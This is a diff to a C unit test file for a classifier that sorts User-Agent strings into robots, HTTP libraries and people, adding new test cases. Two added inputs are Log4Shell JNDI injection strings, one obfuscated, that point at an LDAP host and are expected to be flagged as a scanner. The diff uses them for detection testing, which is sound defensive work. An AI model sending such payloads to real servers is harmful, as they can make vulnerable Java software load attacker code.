@@ -306,7 +306,14 @@ static void the_form_tells_robots(void **state)
 		      "page about it");
 	assert_reason("Mozilla/4.0 (compatible;)", "no browser named");
 	assert_reason("Mozilla/5.0", "no browser named");
+	assert_reason("Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+		      "no browser named");
+	assert_reason("Mozilla/5.0 (X11; Linux x86_64)", "no browser named");
 	assert_reason("portscout/0.8.1", "HTTP library");
+	assert_reason("Dart/3.3 (dart:io)", "HTTP library");
+	assert_reason("${jndi:ldap://192.0.2.7/a}", "listed scanner");
+	assert_reason("Mozilla/5.0 ${${::-j}ndi:ldap://192.0.2.7/a}",
+		      "listed scanner");
 	assert_reason("fetch libfetch/2.0", "HTTP library");
 	assert_reason("Ruby", "HTTP library");
 	assert_reason(BROWSER "Firefox/9 (a bot)", "calls itself a robot");
@@ -316,6 +323,7 @@ static void the_form_leaves_people_alone(void **state)
 {
 	static const char *const people[] = {
 		BROWSER "Firefox/140.0",
+		"Mozilla/5.0 (Windows NT 10.0; Trident/7.0; rv:11.0)",
 		"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; "
 		"@lee-road.co.uk)",
 		"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; "
